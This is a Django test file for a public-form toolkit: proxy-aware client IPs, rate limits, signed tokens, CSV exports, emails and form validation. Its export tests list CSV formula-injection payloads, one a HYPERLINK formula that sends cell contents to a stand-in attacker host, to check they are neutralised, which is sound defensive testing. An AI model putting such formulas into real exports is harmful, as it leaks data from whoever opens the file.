"""The public-form toolkit: client address, rate limits, tokens, safe exports, emails, forms."""

import datetime
import uuid
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from django.core import mail
from django.core.cache import caches
from django.test import RequestFactory, override_settings

from core import export, tokens
from core.forms import PublicForm
from core.mail import absolute, send
from core.ratelimit import Limit
from core.security import client_ip
from cso_site.settings.base import cache_settings

rf = RequestFactory()


def request_from(remote, forwarded=None):
    extra = {"REMOTE_ADDR": remote}
    if forwarded is not None:
        extra["HTTP_X_FORWARDED_FOR"] = forwarded
    return rf.post("/", **extra)


# --- client address -----------------------------------------------------------------------


def test_without_trusted_proxies_the_header_is_ignored():
    assert client_ip(request_from("203.0.113.9", "198.51.100.1")) == "203.0.113.9"


@override_settings(TRUSTED_PROXIES=["10.0.0.0/8", "127.0.0.1"])
def test_behind_a_trusted_proxy_the_client_is_the_right_most_untrusted_address():
    # the client sent a forged header; nginx appended the address it saw
    request = request_from("127.0.0.1", "1.2.3.4, 198.51.100.7, 10.1.2.3")
    assert client_ip(request) == "198.51.100.7"


@override_settings(TRUSTED_PROXIES=["127.0.0.1"])
def test_a_request_from_an_untrusted_address_cannot_choose_its_address():
    assert client_ip(request_from("198.51.100.7", "127.0.0.1, 1.2.3.4")) == "198.51.100.7"


@override_settings(TRUSTED_PROXIES=["127.0.0.1", "not-a-network"])
@given(st.text(max_size=80))
def test_any_forwarded_header_gives_an_address_never_an_error(header):
    address = client_ip(request_from("127.0.0.1", header))
    assert address  # the proxy's own address at worst


# --- rate limits --------------------------------------------------------------------------

PLEDGES = Limit("test-pledge", per_client=3, per_recipient=2)


def test_only_counted_attempts_use_up_the_limit():
    request = request_from("203.0.113.9")
    for _ in range(10):
        assert not PLEDGES.exceeded(request)  # checking (e.g. invalid input) counts nothing
    for n in range(3):
        assert not PLEDGES.exceeded(request), n
        PLEDGES.hit(request)
    assert PLEDGES.exceeded(request)


def test_the_same_recipient_is_limited_whoever_asks():
    for n in range(2):
        PLEDGES.hit(request_from(f"203.0.113.{n}"), "Person@Example.org")
    assert PLEDGES.exceeded(request_from("198.51.100.1"), "person@example.org ")
    assert not PLEDGES.exceeded(request_from("198.51.100.1"), "other@example.org")


@override_settings(TRUSTED_PROXIES=["127.0.0.1"])
def test_clients_behind_the_proxy_are_counted_apart():
    for _ in range(3):
        PLEDGES.hit(request_from("127.0.0.1", "198.51.100.1"))
    assert PLEDGES.exceeded(request_from("127.0.0.1", "198.51.100.1"))
    assert not PLEDGES.exceeded(request_from("127.0.0.1", "198.51.100.2"))


@override_settings(SUPPORT_RATE_LIMIT=1)
def test_a_limit_can_name_its_setting():
    limit = Limit("test-setting", per_client="SUPPORT_RATE_LIMIT")
    limit.hit(request_from("203.0.113.9"))
    assert limit.exceeded(request_from("203.0.113.9"))


def test_purging_the_page_cache_leaves_limits_alone():
    request = request_from("203.0.113.9")
    for _ in range(3):
        PLEDGES.hit(request)
    caches["default"].clear()
    assert PLEDGES.exceeded(request)


def test_on_redis_two_workers_share_one_count():
    """Each worker has its own connection to the shared Redis: 24 attempts, limit 10."""
    with override_settings(CACHES=cache_settings("redis://127.0.0.1:6379/9")):
        caches["ratelimit"].clear()
        limit = Limit(f"test-redis-{uuid.uuid4()}", per_client=10)
        workers = [caches.create_connection("ratelimit") for _ in range(2)]
        passed = 0
        for n in range(24):
            caches._connections.ratelimit = workers[n % 2]  # this request lands on worker n % 2
            request = request_from("203.0.113.9")
            if not limit.exceeded(request):
                limit.hit(request)
                passed += 1
        assert passed == 10
        caches["ratelimit"].clear()


# --- tokens -------------------------------------------------------------------------------


class Thing(SimpleNamespace):
    def token_state(self):
        return self.state


class Things:
    """A stand-in queryset over a list (tokens only call filter(public_id=...).first())."""

    def __init__(self, *items):
        self.items = items

    def filter(self, public_id):
        return Things(*[i for i in self.items if str(i.public_id) == public_id])

    def first(self):
        return self.items[0] if self.items else None


def test_a_token_names_its_object_opaquely_and_reads_back():
    thing = Thing(pk=7, public_id=uuid.uuid4(), state="a")
    token = tokens.Link("manage").make(thing, datetime.timedelta(hours=1))
    assert "7" not in token.split(":")[0] or str(thing.public_id) not in token
    assert tokens.Link("manage").read(token, Things(thing)) is thing


def test_a_token_is_for_one_purpose_only():
    thing = Thing(public_id=uuid.uuid4(), state="a")
    token = tokens.Link("confirm").make(thing, datetime.timedelta(hours=1))
    assert tokens.Link("withdraw").read(token, Things(thing)) is None


def test_a_token_expires():
    thing = Thing(public_id=uuid.uuid4(), state="a")
    token = tokens.Link("confirm").make(thing, datetime.timedelta(seconds=-1))
    assert tokens.Link("confirm").read(token, Things(thing)) is None


def test_a_token_dies_when_its_state_changes():
    thing = Thing(public_id=uuid.uuid4(), state="round 1")
    token = tokens.Link("edit").make(thing, datetime.timedelta(days=30))
    thing.state = "round 2"
    assert tokens.Link("edit").read(token, Things(thing)) is None


@given(st.text(max_size=300))
def test_any_text_is_no_token(text):
    assert tokens.Link("confirm").read(text, Things()) is None


# --- exports ------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value):
    text = export.csv_text(["name"], [[value]])
    assert text.startswith(export.BOM)
    cell = text.splitlines()[1].strip('"')
    assert cell.startswith("'")


def test_ordinary_cells_stay_as_they_are():
    text = export.csv_text(["emri", "n"], [["Çelësi Qytetar", 3], [None, -2]])
    assert "Çelësi Qytetar,3" in text
    assert ",-2" in text  # numbers are numbers, not formulas


# --- emails -------------------------------------------------------------------------------


@override_settings(SITE_URL="https://zgjedhje.example.org")
def test_links_in_emails_point_at_the_public_site():
    assert absolute("/sq/ngjarje/") == "https://zgjedhje.example.org/sq/ngjarje/"
    assert absolute("https://other.example/x") == "https://other.example/x"


def test_an_email_is_sent_in_the_recipients_language_with_both_parts(db):
    send(
        "core/emails/new_link",
        "person@example.org",
        "sq",
        {"url": "https://zgjedhje.example.org/x"},
        attachments=[("a.ics", "BEGIN:VCALENDAR", "text/calendar")],
    )
    message = mail.outbox[-1]
    assert message.to == ["person@example.org"]
    assert message.subject.startswith("Lidhja juaj e re")
    assert message.alternatives and "https://zgjedhje.example.org/x" in message.alternatives[0][0]
    assert message.attachments[0][0] == "a.ics"


# --- forms --------------------------------------------------------------------------------


class NameForm(PublicForm):
    from django import forms as _forms

    name = _forms.CharField(max_length=50)
    email = _forms.EmailField()
    note = _forms.CharField(required=False, widget=_forms.Textarea)


def valid(**overrides):
    return {"name": "Arbëresha", "email": "A@Example.org", "consent": "on", "note": "", **overrides}


@pytest.mark.parametrize(
    "name", ["a\x00b", "a\x07b", "a\u202eb", "line\nbreak", "a\x85b", "a\u200bb"]
)
def test_control_and_invisible_characters_are_refused_with_a_message(name):
    form = NameForm(valid(name=name))
    assert not form.is_valid()
    assert "name" in form.errors


def test_line_breaks_are_fine_in_a_text_area_and_the_email_is_normalised():
    form = NameForm(valid(note="rreshti 1\nrreshti 2"))
    assert form.is_valid(), form.errors
    assert form.cleaned_data["email"] == "a@example.org"
    assert not form.is_bot
    assert NameForm(valid(website="http://spam.example")).is_bot


def test_consent_is_required():
    form = NameForm(valid(consent=""))
    assert not form.is_valid() and "consent" in form.errors


@given(st.dictionaries(st.sampled_from(["name", "email", "note", "consent", "website"]), st.text()))
def test_no_input_makes_the_form_fail_loudly(data):
    form = NameForm(data)
    form.is_valid()  # never raises
